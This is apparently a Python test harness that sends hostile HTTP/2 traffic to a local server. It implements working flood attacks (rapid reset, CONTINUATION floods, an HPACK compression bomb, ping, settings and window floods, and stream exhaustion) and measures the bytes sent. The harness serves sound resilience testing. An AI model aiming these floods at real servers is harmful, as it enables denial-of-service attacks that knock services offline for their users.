"""What hostile HTTP/2 clients send, in a process of its own: `python -m harness.floods NAME PORT SECONDS`.

Prints a JSON object: connections, bytes sent, bytes received.
"""

import json
import select
import socket
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RESET, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION, UNKNOWN = 0, 1, 2, 3, 4, 6, 8, 9, 0x42
END_STREAM, END_HEADERS = 1, 4
# Far beyond what any answer says; a flood that gets this much through is not being stopped by its volume.
PIECE = 1 << 16


def frame(kind: int, flags: int = 0, stream: int = 0, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def text(value: bytes) -> bytes:
    assert len(value) < 127
    return bytes([len(value)]) + value


def block(method: int = 0x82, path: bytes = b"/enforced/x") -> bytes:
    """A header block (RFC 7541) of static names: GET is 0x82, POST 0x83."""
    return bytes([method, 0x86, 0x04]) + text(path) + b"\x01" + text(b"a.test")


def streams(first: int = 1):
    return range(first, 1 << 31, 2)


def rapid_reset():
    for stream in streams():
        yield frame(HEADERS, END_STREAM | END_HEADERS, stream, block()) + frame(RESET, 0, stream, b"\0\0\0\x08")


def made_you_reset():
    """Each stream is answered, and broken by a window of nothing: the server resets it."""
    for stream in streams():
        yield frame(HEADERS, END_STREAM | END_HEADERS, stream, block()) + frame(WINDOW_UPDATE, 0, stream, b"\0\0\0\0")


def continuation():
    yield frame(HEADERS, END_STREAM, 1, block())
    while True:
        yield frame(CONTINUATION, 0, 1, b"\x00" + text(b"x") + text(b"y" * 100))


def empty_continuation():
    yield frame(HEADERS, END_STREAM, 1, block())
    while True:
        yield frame(CONTINUATION, 0, 1)


def ping():
    while True:
        yield frame(PING, 0, 0, b"12345678")


def settings():
    while True:
        yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535) * 10)


def priority():
    while True:
        yield frame(PRIORITY, 0, 3, b"\0\0\0\0\x10")


def unknown():
    while True:
        yield frame(UNKNOWN)


def empty_data():
    yield frame(HEADERS, END_HEADERS, 1, block(0x83))
    while True:
        yield frame(DATA, 0, 1)


def padded_data():
    """Nothing but padding."""
    yield frame(HEADERS, END_HEADERS, 1, block(0x83))
    while True:
        yield frame(DATA, 8, 1, b"\x01\x00")


def window_updates():
    while True:
        yield frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\x01")


def window_games():
    """Many answers, and an initial window that goes up and down."""
    for stream in range(1, 201, 2):
        yield frame(HEADERS, END_STREAM | END_HEADERS, stream, block())
    while True:
        yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0)) + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 2**31 - 1))


def hpack_bomb():
    """A field of 4,000 bytes goes into the table once, and comes out of it 10,000 times a head."""
    value = b"v" * 4000
    long = bytes([0x7F]) + bytes([(4000 - 127) % 128 + 128, (4000 - 127) // 128]) + value
    yield frame(HEADERS, END_STREAM | END_HEADERS, 1, block() + b"\x40" + text(b"x") + long)
    for stream in streams(3):
        yield frame(HEADERS, END_STREAM | END_HEADERS, stream, block() + b"\xbe" * 10_000)


def table_sizes():
    """Every head changes the size of the table."""
    for stream in streams():
        yield frame(HEADERS, END_STREAM | END_HEADERS, stream, b"\x20\x3f\xe1\x1f" + block())


def small_data():
    """Content, byte by byte."""
    yield frame(HEADERS, END_HEADERS, 1, block(0x83, b"/sink/x"))
    while True:
        yield frame(DATA, 0, 1, b"a")


def many_streams():
    """As many requests as are allowed at once, none of which ends, and then another connection."""
    for stream in range(1, 201, 2):
        yield frame(HEADERS, END_HEADERS, stream, block(0x83))


def stalled_windows():
    """As many answers as are allowed at once, for which there is no window."""
    yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0))
    for stream in range(1, 201, 2):
        yield frame(HEADERS, END_STREAM | END_HEADERS, stream, block(0x82, b"/1/x"))


def reconnect():
    """Connections that say hello and go."""
    yield b""


FLOODS = [rapid_reset, made_you_reset, continuation, empty_continuation, ping, settings, priority, unknown, empty_data,
          padded_data, window_updates, window_games, hpack_bomb, table_sizes, small_data, many_streams, stalled_windows,
          reconnect]


def pieces(flood):
    """The flood in pieces that are worth a system call."""
    piece = bytearray()
    for part in flood():
        piece += part
        if len(piece) >= PIECE:
            yield bytes(piece)
            piece.clear()
    yield bytes(piece)


def run(flood, port: int, seconds: float) -> dict:
    connections = sent = received = 0
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        with socket.create_connection(("127.0.0.1", port)) as sock:
            connections += 1
            try:
                sock.sendall(PREFACE + frame(SETTINGS))
                sock.settimeout(1)
                for piece in pieces(flood):
                    sock.sendall(piece)
                    sent += len(piece)
                    if select.select([sock], [], [], 0)[0]:
                        data = sock.recv(1 << 16)
                        received += len(data)
                        if not data:
                            break
                    if time.monotonic() >= end:
                        break
            except OSError:
                pass
    return {"connections": connections, "sent": sent, "received": received}


if __name__ == "__main__":
    name, port, seconds = sys.argv[1:]
    if name == "sink":
        with socket.create_server(("127.0.0.1", int(port))) as server:
            while True:
                with server.accept()[0] as sock:
                    while sock.recv(1 << 20):
                        pass
    else:
        print(json.dumps(run(globals()[name], int(port), float(seconds))))
